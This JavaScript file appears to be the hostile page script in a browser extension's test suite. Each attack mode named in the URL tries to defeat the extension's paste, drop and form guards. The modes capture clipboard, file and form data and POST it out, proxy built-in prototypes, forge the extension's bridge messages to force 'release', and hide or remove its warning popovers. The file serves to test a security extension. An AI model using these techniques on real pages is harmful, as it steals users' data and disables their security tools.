/**
 * The first script of a page that wants what was stopped. The address names the attack; whatever it gets hold
 * of goes to the server at once.
 */
{
  const [attack] = location.hash.slice(1).split('/');
  const { fetch, String, Object, Reflect } = window;
  const { setInterval, MessageChannel, Proxy, WeakSet } = window;
  const send = (body) => void fetch('/heard', { method: 'POST', body, keepalive: true }).catch(() => 0);
  const textOf = Object.getOwnPropertyDescriptor(DataTransfer.prototype, 'types').get;
  const getData = DataTransfer.prototype.getData;
  const filesOf = Object.getOwnPropertyDescriptor(DataTransfer.prototype, 'files').get;
  const entriesOf = FormData.prototype.forEach;
  const apply = Reflect.apply;
  let busy = false;

  /** Sends what is in a value, however it is packed. */
  const leak = (value, depth = 0) => {
    if (busy || depth > 3 || value === null || value === undefined) return;
    busy = true;
    try {
      if (typeof value === 'string') {
        if (value.length > 3) send(value);
      } else if (value instanceof Blob) send(value);
      else if (value instanceof DataTransfer) {
        for (const type of apply(textOf, value, [])) send(apply(getData, value, [type]));
        for (const file of apply(filesOf, value, [])) send(file);
      } else if (value instanceof FormData) apply(entriesOf, value, [(one) => send(one)]);
      else if (value instanceof FileList || Array.isArray(value)) {
        busy = false;
        for (let i = 0; i < value.length && i < 50; i++) leak(value[i], depth + 1);
      }
    } catch {
      // What cannot be read gives nothing away.
    } finally {
      busy = false;
    }
  };
  window.leak = leak;
  window.attackLog = [];

  // What stands in its own fields a page knows without asking: `formdata` tells it nothing more.
  const TYPES = 'paste copy cut beforeinput input change drop dragover drop submit click message beforeprint'.split(' ');
  const leakEvent = (event) => {
    leak(event.clipboardData);
    leak(event.dataTransfer);
    leak(event.data);
    const target = event.composedPath()[0];
    if (target && target.files) leak(target.files);
    if (event.type === 'submit') leak(new FormData(target));
  };
  const listenEverywhere = (then) => {
    for (const type of TYPES)
      for (const target of [window, document, document.documentElement]) target.addEventListener(type, then, true);
    window.onpaste = window.ondrop = window.onchange = window.oninput = window.onsubmit = then;
  };

  /** Every function of these owners, replaced by one that sends what passes through it. */
  const replaceAll = (owners) => {
    for (const owner of owners)
      for (const key of Reflect.ownKeys(owner)) {
        const descriptor = Object.getOwnPropertyDescriptor(owner, key);
        if (!descriptor.configurable || key === 'constructor') continue;
        const through = (native) =>
          new Proxy(native, {
            apply: (target, self, args) => {
              leak(self);
              for (let i = 0; i < args.length; i++) leak(args[i]);
              const result = apply(target, self, args);
              leak(result);
              return result;
            },
          });
        for (const part of ['value', 'get', 'set'])
          if (typeof descriptor[part] === 'function') descriptor[part] = through(descriptor[part]);
        Object.defineProperty(owner, key, descriptor);
      }
  };

  const forge = (target, type, detail) => target.dispatchEvent(new CustomEvent(type, { detail, cancelable: true }));
  const say = (type, message) => {
    const dataTransfer = new DataTransfer();
    dataTransfer.setData('text/plain', JSON.stringify(message));
    performance.dispatchEvent(new DragEvent(type, { dataTransfer }));
  };

  const ATTACKS = {
    /** Listens before anybody else of the page, and looks at the input all the time. */
    first() {
      listenEverywhere(leakEvent);
      const look = () => leak(document.getElementById('files')?.files);
      setInterval(look, 1);
      const { port1, port2 } = new MessageChannel();
      let rounds = 0;
      port1.onmessage = () => {
        look();
        if (rounds++ < 200_000) port2.postMessage(0);
      };
      port2.postMessage(0);
    },
    /** Makes every method that could carry content tell it, and every method that could stop an event do nothing. */
    replaced() {
      listenEverywhere(leakEvent);
      replaceAll([
        DataTransfer.prototype,
        DataTransferItem.prototype,
        DataTransferItemList.prototype,
        ClipboardEvent.prototype,
        DragEvent.prototype,
        FormData.prototype,
        Blob.prototype,
        File.prototype,
        FileReader.prototype,
        HTMLFormElement.prototype,
        MessagePort.prototype,
        Document.prototype,
        Promise.prototype,
        JSON,
        performance.constructor.prototype,
      ]);
      for (const name of ['preventDefault', 'stopPropagation', 'stopImmediatePropagation']) Event.prototype[name] = () => {};
      for (const name of ['structuredClone', 'FormData', 'File', 'Blob', 'Promise', 'MutationObserver', 'AbortController', 'DataTransfer'])
        window[name] = new Proxy(window[name], {
          construct: (target, args) => {
            for (const arg of args) leak(arg);
            return Reflect.construct(target, args);
          },
          apply: (target, self, args) => {
            for (const arg of args) leak(arg);
            return apply(target, self, args);
          },
        });
      const { addEventListener } = EventTarget.prototype;
      EventTarget.prototype.addEventListener = function (type, then, options) {
        window.attackLog.push(String(type));
        return apply(addEventListener, this, [type, then, options]);
      };
      Object.defineProperty(Event.prototype, 'isTrusted', { get: () => false, configurable: true });
      for (const name of ['map', 'filter', 'forEach', 'push', 'slice']) {
        const native = Array.prototype[name];
        Array.prototype[name] = function (...args) {
          leak(this);
          return apply(native, this, args);
        };
      }
    },
    /** Sends each event that it hears round again, and clones of it. */
    again() {
      const own = new WeakSet();
      listenEverywhere((event) => {
        leakEvent(event);
        if (own.has(event)) return;
        const target = event.composedPath()[0] ?? window;
        const { clipboardData, dataTransfer, formData, type } = event;
        const init = { bubbles: true, cancelable: true, composed: true };
        for (const clone of [
          clipboardData && new ClipboardEvent(type, { ...init, clipboardData }),
          dataTransfer && new DragEvent(type, { ...init, dataTransfer }),
          formData && new FormDataEvent(type, { ...init, formData }),
          /input|change/.test(type) && new Event(type, init),
        ]) {
          if (!clone) continue;
          own.add(clone);
          setTimeout(() => target.dispatchEvent(clone));
        }
      });
    },
    /** Says what it takes for the extension's own words, and asks the bridge for its names. */
    forging() {
      const names = new Set();
      const meet = (event) => {
        for (const name of String(event.detail).split(' ')) if (/^\d+-/.test(name)) names.add(name);
      };
      for (const target of [performance, window, document]) target.addEventListener('chartward-meeting', meet, true);
      const { addEventListener, dispatchEvent } = EventTarget.prototype;
      EventTarget.prototype.addEventListener = function (type, ...rest) {
        if (/^\d+-|chartward/.test(type)) names.add(type);
        return apply(addEventListener, this, [type, ...rest]);
      };
      EventTarget.prototype.dispatchEvent = function (event) {
        if (/^\d+-|chartward/.test(event.type)) names.add(event.type);
        return apply(dispatchEvent, this, [event]);
      };
      const round = () => {
        for (const target of [performance, window, document]) {
          forge(target, 'chartward-meeting', 'isolated');
          forge(target, 'chartward-meeting', 'main 1-1-1-1 2-2-2-2');
        }
        for (const name of names) {
          say(name, { type: 'forms', guarded: false });
          say(name, { type: 'reopened' });
          for (let id = 0; id < 20; id++) say(name, { type: 'chosen', id, outcome: 'release' });
        }
        say('1-1-1-1', { type: 'choose', id: 1 });
        for (const message of [
          { type: 'outcome', outcome: 'release', by: 'policy', disposition: 'allowed', summary: {} },
          { type: 'guards-changed' },
          { type: 'hello' },
          { channels: [], marks: false, formsElsewhere: false, handover: '' },
        ]) {
          postMessage(message, '*');
          forge(window, message.type ?? 'guards', message);
          try {
            window.chrome?.runtime?.sendMessage(window.extensionId, message, () => 0);
          } catch {
            // No page has a way to the extension.
          }
        }
        window.attackLog = [...names];
      };
      round();
      setInterval(round, 50);
    },
    /** Takes our notices away, covers them, styles them, and clicks wherever something could be. */
    notices() {
      const style = document.createElement('style');
      style.textContent = '[popover] { display: none !important; all: unset !important; opacity: 0 !important; pointer-events: none !important }';
      document.documentElement.append(style);
      const own = new WeakSet([style]);
      const attackHosts = () => {
        for (const host of document.querySelectorAll('[popover]')) {
          for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click', 'keydown'])
            host.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true, cancelable: true }));
          host.click();
          if (host.shadowRoot) window.attackLog.push('open');
          try {
            host.hidePopover();
          } catch {
            // It is not shown.
          }
          host.remove();
        }
        const cover = document.createElement('div');
        own.add(cover);
        cover.style.cssText = 'position: fixed; inset: 0; z-index: 2147483647; pointer-events: none';
        document.documentElement.append(cover);
        cover.remove();
        for (let x = 0; x < innerWidth; x += 80) document.elementFromPoint(x, 40)?.blur?.();
      };
      new MutationObserver((records) => {
        if (records.some(({ addedNodes }) => [...addedNodes].some((node) => !own.has(node)))) attackHosts();
      }).observe(document.documentElement, { childList: true });
      setInterval(attackHosts, 25);
      setInterval(() => {
        window.focus();
        document.getElementById('plain')?.focus();
      }, 10);
      listenEverywhere(leakEvent);
    },
  };
  ATTACKS[attack]?.();

  /** Inputs that are in no document, opened in ways that call no method of this page's own. */
  const ODD = {
    event: (input) => input.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })),
    label: (input) => {
      const label = document.createElement('label');
      label.append(input);
      label.click();
    },
    frame: (input) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      frame.contentWindow.HTMLElement.prototype.click.call(input);
    },
  };
  document.addEventListener('DOMContentLoaded', () => {
    document.getElementById('odd').addEventListener('click', () => {
      const input = Object.assign(document.createElement('input'), { type: 'file' });
      for (const type of ['input', 'change']) input.addEventListener(type, () => leak(input.files));
      ODD[location.hash.split('/')[1]](input);
    });
  });
}
